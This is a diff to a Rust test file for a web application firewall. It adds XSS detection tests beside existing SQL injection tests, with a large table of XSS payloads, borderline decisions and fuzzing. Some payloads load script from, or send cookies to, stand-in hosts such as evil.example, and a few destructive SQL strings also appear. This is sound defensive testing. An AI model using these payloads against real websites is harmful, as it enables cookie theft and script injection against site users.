@@ -1,15 +1,17 @@
-//! The SQL injection detector against tables of attacks (each with the
-//! rule expected to catch it) and of ordinary text it must let through, the
+//! The detectors against tables of attacks (each with the rule expected to
+//! catch it) and of ordinary text that both must let through, the
 //! borderline cases with the decision taken and why, and a deterministic
 //! fuzz run for totality and bounded work.
 //!
 //! `cargo test -p edgewall-engine waf::detect -- --nocapture` prints the
 //! detection and false-positive counts.
 
+use super::html_lexer::{HtmlContext, HtmlLexer};
 use super::sql_lexer::{Kind, Quote, Tokens, MAX_TOKENS};
 use super::*;
 
 use SqliReason as S;
+use XssReason as X;
 
 const SQLI_ATTACKS: &[(&str, SqliReason)] = &[
     // Tautologies and contradictions.
@@ -203,7 +205,7 @@ const SQLI_ATTACKS: &[(&str, SqliReason)] = &[
     ("DROP TABLE users;--", S::DestructiveStatement),
 ];
 
-/// Ordinary values: none may be taken for SQL injection.
+/// Ordinary values: none may be taken for SQL injection or XSS.
 const BENIGN: &[&str] = &[
     // Names and apostrophes.
     "O'Reilly",
@@ -413,8 +415,169 @@ const BENIGN: &[&str] = &[
     "",
 ];
 
+const XSS_ATTACKS: &[(&str, XssReason)] = &[
+    // Dangerous tags.
+    ("<script>alert(1)</script>", X::DangerousTag),
+    ("\"><script>alert(1)</script>", X::DangerousTag),
+    ("<ScRiPt>alert(1)</sCrIpT>", X::DangerousTag),
+    ("<scr<script>ipt>alert(1)</script>", X::DangerousTag),
+    (
+        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+        X::DangerousTag,
+    ),
+    ("<embed src=x.swf>", X::DangerousTag),
+    ("<base href=\"https://evil.example/\">", X::DangerousTag),
+    ("<style>@import'javascript:alert(1)';</style>", X::DangerousTag),
+    (
+        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
+        X::DangerousTag,
+    ),
+    ("<link rel=stylesheet href=//evil/x.css>", X::DangerousTag),
+    (
+        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+        X::DangerousTag,
+    ),
+    (
+        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>XSS</text></a>",
+        X::DangerousTag,
+    ),
+    ("</title><script>alert(1)</script>", X::DangerousTag),
+    ("</textarea><script>alert(1)</script>", X::DangerousTag),
+    (
+        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+        X::DangerousTag,
+    ),
+    ("<script src=//evil.example/x.js>", X::DangerousTag),
+    ("<script/src=data:,alert(1)>", X::DangerousTag),
+    ("<iframe src=//evil.example>", X::DangerousTag),
+    ("<form><button formaction=javascript:alert(1)>X", X::ScriptUrl),
+    ("<svg><script>alert(1)</script></svg>", X::DangerousTag),
+    ("<<script>alert(1)//<</script>", X::DangerousTag),
+    ("<object data=x.swf type=application/x-shockwave-flash>", X::DangerousTag),
+    ("<form action=//evil.example/steal>", X::DangerousTag),
+    ("<embed type=image/svg+xml src=//evil/x.svg>", X::DangerousTag),
+    ("<iframe>", X::DangerousTag),
+    ("<xml id=x><x><c><![CDATA[<img src=x onerror=alert(1)>]]></c></x></xml>", X::DangerousTag),
+    ("<applet code=x.class>", X::DangerousTag),
+    ("<frameset><frame src=//evil>", X::DangerousTag),
+    // Event handlers.
+    ("<img src=x onerror=alert(1)>", X::EventHandler),
+    ("<svg/onload=alert(1)>", X::EventHandler),
+    ("<body onload=alert(1)>", X::EventHandler),
+    ("' onmouseover='alert(1)", X::EventHandler),
+    ("<details open ontoggle=alert(1)>", X::EventHandler),
+    ("<x onclick=alert(1)>click", X::EventHandler),
+    ("<IMG SRC=X ONERROR=ALERT(1)>", X::EventHandler),
+    ("<!--><img src=x onerror=alert(1)>-->", X::EventHandler),
+    ("<video><source onerror=alert(1)>", X::EventHandler),
+    ("<audio src=x onerror=alert(1)>", X::EventHandler),
+    ("<input autofocus onfocus=alert(1)>", X::EventHandler),
+    ("<select onfocus=alert(1) autofocus>", X::EventHandler),
+    ("<textarea autofocus onfocus=alert(1)>", X::EventHandler),
+    ("<marquee onstart=alert(1)>", X::EventHandler),
+    ("<keygen autofocus onfocus=alert(1)>", X::EventHandler),
+    ("\"onmouseover=\"alert(1)", X::EventHandler),
+    ("\" autofocus onfocus=\"alert(1)", X::EventHandler),
+    ("x onmouseover=alert(1)", X::EventHandler),
+    ("' autofocus onfocus=alert(1) x='", X::EventHandler),
+    ("\"><img src=x onerror=alert(document.cookie)>", X::EventHandler),
+    ("'><svg onload=alert(1)>", X::EventHandler),
+    (
+        "<title><a title=\"</title><img src=x onerror=alert(1)>\">",
+        X::EventHandler,
+    ),
+    ("<img src=\"x\" onerror=\"&#97;lert(1)\">", X::EventHandler),
+    ("<img/src=\"x\"/onerror=alert(1)>", X::EventHandler),
+    ("<svg onload=alert&#40;1&#41;>", X::EventHandler),
+    ("<body onpageshow=alert(1)>", X::EventHandler),
+    ("<img src=1 onerror=alert(1)//", X::EventHandler),
+    ("<frameset onload=alert(1)>", X::EventHandler),
+    ("<xss onclick=alert(1)>", X::EventHandler),
+    ("<custom-element onpointerenter=alert(1)>", X::EventHandler),
+    ("<p onmouseover=\"alert(1)\">hover</p>", X::EventHandler),
+    ("<b onclick=alert(1)>bold</b>", X::EventHandler),
+    ("<img src=x oNeRrOr=alert(1)>", X::EventHandler),
+    ("<img src=x onerror\n=alert(1)>", X::EventHandler),
+    ("<img\tsrc=x\tonerror=alert(1)>", X::EventHandler),
+    ("'\"><img src=x onerror=prompt(1)>", X::EventHandler),
+    ("<img src=x:alert(alt) onerror=eval(src) alt=0>", X::EventHandler),
+    ("<div onfuturevent=alert(1)>", X::EventHandler),
+    (
+        "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
+        X::EventHandler,
+    ),
+    // Script URLs.
+    ("<iframe src=\"javascript:alert(1)\">", X::ScriptUrl),
+    ("<a href=\"jav&#x09;ascript:alert(1)\">x</a>", X::ScriptUrl),
+    ("javascript:alert(1)", X::ScriptUrl),
+    (
+        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
+        X::ScriptUrl,
+    ),
+    ("<form action=javascript:alert(1)><input type=submit>", X::ScriptUrl),
+    ("<a href=\"javascript&colon;alert(1)\">", X::ScriptUrl),
+    (
+        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">",
+        X::ScriptUrl,
+    ),
+    ("<a href=\"&#x6A;avascript:alert(1)\">", X::ScriptUrl),
+    ("<a href=\"javascript&#0058;alert(1)\">", X::ScriptUrl),
+    ("<a href=\"&#x20;javascript:alert(1)\">", X::ScriptUrl),
+    ("<a href=\"java&NewLine;script&colon;alert(1)\">", X::ScriptUrl),
+    ("<a href=javas&#99;ript:alert(1)>", X::ScriptUrl),
+    ("<a href=\" javascript:alert(1)\">", X::ScriptUrl),
+    ("<a href=\"java\nscript:alert(1)\">", X::ScriptUrl),
+    ("<a href='vbscript:msgbox(1)'>", X::ScriptUrl),
+    (
+        "<a href=\"data:text/html,<script>alert(1)</script>\">",
+        X::ScriptUrl,
+    ),
+    ("<isindex action=javascript:alert(1) type=submit>", X::ScriptUrl),
+    ("<object data=javascript:alert(1)>", X::ScriptUrl),
+    ("<embed src=\"javascript:alert(1)\">", X::ScriptUrl),
+    ("<button formaction=javascript:alert(1)>X", X::ScriptUrl),
+    ("<a href=javascript:alert(1)>x", X::ScriptUrl),
+    ("<A HREF=\"JAVASCRIPT:ALERT(1)\">", X::ScriptUrl),
+    ("<math href=\"javascript:alert(1)\">CLICK", X::ScriptUrl),
+    ("<a href=\"javascript:void(0)\" onclick=\"steal()\">", X::ScriptUrl),
+    ("<table background=\"javascript:alert(1)\">", X::ScriptUrl),
+    ("<input type=\"image\" src=\"javascript:alert(1)\">", X::ScriptUrl),
+    (
+        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+        X::ScriptUrl,
+    ),
+    ("vbscript:msgbox(\"XSS\")", X::ScriptUrl),
+    ("javascript:alert`1`", X::ScriptUrl),
+    ("  javascript:document.location='//evil/?'+document.cookie", X::ScriptUrl),
+    // CSS.
+    ("<div style=\"width: expression(alert(1))\">", X::StyleScript),
+    ("x:expression(alert(1))", X::StyleScript),
+    ("<div style=\"background:url('javascript:alert(1)')\">", X::StyleScript),
+    ("<div style=\"behavior: url(xss.htc)\">", X::StyleScript),
+    (
+        "<div style=\"-moz-binding:url(http://evil/xss.xml#x)\">",
+        X::StyleScript,
+    ),
+    ("<div style=\"x:exp/**/ression(alert(1))\">", X::StyleScript),
+    ("color:red;x:\\65 xpression(alert(1))", X::StyleScript),
+    // The rest.
+    (
+        "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
+        X::MarkupInSrcdoc,
+    ),
+    (
+        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
+        X::ConditionalMarkup,
+    ),
+    (
+        "<?import namespace=\"t\" implementation=\"#default#time2\">",
+        X::ConditionalMarkup,
+    ),
+];
+
 /// Cases where reasonable people differ: the decision, and why.
 struct Borderline {
+    detector: Detector,
     input: &'static str,
     flagged: bool,
     why: &'static str,
@@ -422,64 +585,130 @@ struct Borderline {
 
 const BORDERLINE: &[Borderline] = &[
     Borderline {
+        detector: Detector::Sqli,
         input: "how do I write SELECT * FROM users WHERE id = 1 in postgres?",
         flagged: false,
         why: "prose that mentions SQL does not parse as an injected value: `how do` stops it",
     },
     Borderline {
+        detector: Detector::Sqli,
         input: "SELECT * FROM users WHERE id = 1",
         flagged: false,
         why: "a statement on its own escapes nothing and adds no condition",
     },
     Borderline {
+        detector: Detector::Sqli,
         input: "5 > 3 and 2 < 4",
         flagged: true,
         why: "a condition on constants after a number is exactly a boolean-blind probe",
     },
     Borderline {
+        detector: Detector::Sqli,
         input: "1 or 1",
         flagged: false,
         why: "a bare truthy constant, with the query neither cut nor closed, is too weak",
     },
     Borderline {
+        detector: Detector::Sqli,
         input: "1 or 1--",
         flagged: true,
         why: "the same with the rest of the query commented out",
     },
     Borderline {
+        detector: Detector::Sqli,
         input: "admin' or 'x",
         flagged: false,
         why: "'x' is false to MySQL: the condition adds nothing (`' or '1` is flagged)",
     },
     Borderline {
+        detector: Detector::Sqli,
         input: "admin'#x",
         flagged: false,
         why: "`#` glued to a word is a hashtag or code more often than a truncation (`admin'#` is flagged)",
     },
     Borderline {
+        detector: Detector::Sqli,
         input: "union select committee",
         flagged: false,
         why: "a select list of one bare word reads as prose; payloads use literals, calls, commas or FROM",
     },
     Borderline {
+        detector: Detector::Sqli,
         input: "order by 10",
         flagged: false,
         why: "column counting needs a value before it or a comment after it",
     },
     Borderline {
+        detector: Detector::Sqli,
         input: "drop table users",
         flagged: true,
         why: "a complete destructive statement has no ordinary use as a value",
     },
     Borderline {
+        detector: Detector::Sqli,
         input: "x'--",
         flagged: true,
         why: "a closed string then a comment is `admin'--`, whatever the name",
     },
     Borderline {
+        detector: Detector::Sqli,
         input: "benchmark(s)",
         flagged: false,
         why: "BENCHMARK needs two arguments to delay anything",
+    },
+    Borderline {
+        detector: Detector::Xss,
+        input: "<form>",
+        flagged: false,
+        why: "a form without attributes submits to the page itself (`<form action=…>` is flagged)",
+    },
+    Borderline {
+        detector: Detector::Xss,
+        input: "<embed>",
+        flagged: false,
+        why: "an embed without attributes loads nothing (`<embed src=…>` is flagged)",
+    },
+    Borderline {
+        detector: Detector::Xss,
+        input: "<svg>",
+        flagged: true,
+        why: "foreign content changes how what follows parses (mutation XSS)",
+    },
+    Borderline {
+        detector: Detector::Xss,
+        input: "<textarea><img src=x onerror=alert(1)></textarea>",
+        flagged: true,
+        why: "no raw-text states: the payload would run wherever the value is not inside a textarea",
+    },
+    Borderline {
+        detector: Detector::Xss,
+        input: "javascript: alert(1)",
+        flagged: true,
+        why: "a bare value that is a script URL with a call in it",
+    },
+    Borderline {
+        detector: Detector::Xss,
+        input: "x onclick=foo()",
+        flagged: true,
+        why: "in an unquoted attribute this adds a handler",
+    },
+    Borderline {
+        detector: Detector::Xss,
+        input: "Set the form's onsubmit=handler",
+        flagged: true,
+        why: "inside '…' the apostrophe closes the value and onsubmit= is a handler",
+    },
+    Borderline {
+        detector: Detector::Xss,
+        input: "use onclick to handle clicks",
+        flagged: false,
+        why: "an attribute without a value runs nothing",
+    },
+    Borderline {
+        detector: Detector::Xss,
+        input: "<img src=x/onerror=alert(1)>",
+        flagged: false,
+        why: "browsers read `x/onerror=alert(1)` as the unquoted src value",
     },
 ];
 
@@ -497,24 +726,40 @@ fn sqli_attacks_are_detected_by_the_expected_rule() {
 }
 
 #[test]
-fn ordinary_text_is_not_sqli() {
+fn xss_attacks_are_detected_by_the_expected_rule() {
     let mut failed = Vec::new();
-    for input in BENIGN {
-        if let Some(m) = is_sqli(input.as_bytes()) {
-            failed.push(format!("{input:?}: {m}"));
+    for &(input, want) in XSS_ATTACKS {
+        match is_xss(input.as_bytes()) {
+            Some(m) if m.reason == want => {}
+            Some(m) => failed.push(format!("{input:?}: want {want:?}, got {m}")),
+            None => failed.push(format!("{input:?}: want {want:?}, not detected")),
         }
     }
-    report("benign inputs", BENIGN.len(), &failed);
+    report("xss attacks", XSS_ATTACKS.len(), &failed);
+}
+
+#[test]
+fn ordinary_text_is_neither_sqli_nor_xss() {
+    let mut failed = Vec::new();
+    for input in BENIGN {
+        for detector in [Detector::Sqli, Detector::Xss] {
+            if let Some(d) = detector.detect(input.as_bytes()) {
+                failed.push(format!("{input:?}: {d}"));
+            }
+        }
+    }
+    report("benign inputs x 2 detectors", BENIGN.len() * 2, &failed);
 }
 
 #[test]
 fn borderline_cases_are_decided_as_documented() {
     let mut failed = Vec::new();
     for case in BORDERLINE {
-        let got = is_sqli(case.input.as_bytes());
+        let got = case.detector.detect(case.input.as_bytes());
         if got.is_some() != case.flagged {
             failed.push(format!(
-                "{:?}: want flagged={} ({}), got {:?}",
+                "{} {:?}: want flagged={} ({}), got {:?}",
+                case.detector.name(),
                 case.input,
                 case.flagged,
                 case.why,
@@ -540,12 +785,14 @@ fn report(what: &str, total: usize, failed: &[String]) {
 #[test]
 fn the_tables_are_large_enough_to_mean_something() {
     assert!(SQLI_ATTACKS.len() >= 80, "{}", SQLI_ATTACKS.len());
-    assert!(BENIGN.len() >= 80, "{}", BENIGN.len());
+    assert!(XSS_ATTACKS.len() >= 80, "{}", XSS_ATTACKS.len());
+    assert!(BENIGN.len() >= 160, "{}", BENIGN.len());
 }
 
 #[test]
 fn matches_explain_themselves_for_the_log() {
     let sqli = |s: &str| is_sqli(s.as_bytes()).map(|m| m.to_string());
+    let xss = |s: &str| is_xss(s.as_bytes()).map(|m| m.to_string());
     assert_eq!(
         sqli("' or 1=1--").as_deref(),
         Some("sql injection: condition on constants (in '…', fingerprint s&1o1c)")
@@ -558,6 +805,34 @@ fn matches_explain_themselves_for_the_log() {
         sqli("\\' or 1=1--").as_deref(),
         Some("sql injection: condition on constants (in '…', fingerprint s&1o1c)")
     );
+    assert_eq!(
+        xss("<svg/onload=alert(1)>").as_deref(),
+        Some("xss: event handler onload on <svg> (text)")
+    );
+    assert_eq!(
+        xss("<script>alert(1)</script>").as_deref(),
+        Some("xss: tag <script> (text)")
+    );
+    assert_eq!(
+        xss("javascript:alert(1)").as_deref(),
+        Some("xss: script url in the value (\"attribute\")")
+    );
+    assert_eq!(
+        Detector::Xss
+            .detect(b"' onmouseover='alert(1)")
+            .map(|d| d.to_string())
+            .as_deref(),
+        Some("xss: event handler onmouseover ('attribute')")
+    );
+}
+
+#[test]
+fn detector_names_round_trip() {
+    for name in Detector::NAMES {
+        let d = Detector::parse(name);
+        assert_eq!(d.map(Detector::name), Some(*name));
+    }
+    assert_eq!(Detector::parse("SQLI"), None);
 }
 
 /// xorshift64: deterministic, no dependency.
@@ -661,7 +936,11 @@ fn fuzz_input(rng: &mut Rng, buf: &mut Vec<u8>) {
             }
         }
         _ => {
-            let seeds: Vec<&str> = SQLI_ATTACKS.iter().map(|a| a.0).collect();
+            let seeds: Vec<&str> = SQLI_ATTACKS
+                .iter()
+                .map(|a| a.0)
+                .chain(XSS_ATTACKS.iter().map(|a| a.0))
+                .collect();
             buf.extend_from_slice(seeds[rng.below(seeds.len())].as_bytes());
             for _ in 0..rng.below(6) {
                 let at = rng.below(buf.len() + 1);
@@ -689,8 +968,19 @@ fn random_and_mutated_inputs_never_panic_and_stay_within_their_bounds() {
     for _ in 0..ITERATIONS {
         fuzz_input(&mut rng, &mut buf);
         flagged += usize::from(is_sqli(&buf).is_some());
-        // Work is bounded by construction: a reading never lexes past the
-        // cap.
+        flagged += usize::from(is_xss(&buf).is_some());
+        // Work is bounded by construction; check the bounds hold. An HTML
+        // reading yields at most one event per byte (plus the tag end) …
+        for context in [
+            HtmlContext::Text,
+            HtmlContext::UnquotedValue,
+            HtmlContext::SingleQuotedValue,
+            HtmlContext::DoubleQuotedValue,
+        ] {
+            let events = HtmlLexer::new(&buf, context).count();
+            assert!(events <= buf.len() + 2, "{events} events from {buf:?}");
+        }
+        // … and a SQL reading never lexes past the cap.
         let mut toks = Tokens::new(&buf, Quote::Single, true);
         let last = toks.get(MAX_TOKENS + 10).kind;
         assert!(matches!(last, Kind::End | Kind::Cap));
@@ -709,5 +999,11 @@ fn huge_pathological_inputs_finish() {
     for p in PATTERNS {
         let input = p.repeat((1 << 18) / p.len());
         let _ = is_sqli(input.as_bytes());
+        let _ = is_xss(input.as_bytes());
     }
+    // A payload at the very end of a huge value is still seen by XSS,
+    // which reads everything; SQL looks at the first tokens only.
+    let mut tail = "a ".repeat(1 << 17);
+    tail.push_str("<script>");
+    assert!(is_xss(tail.as_bytes()).is_some());
 }
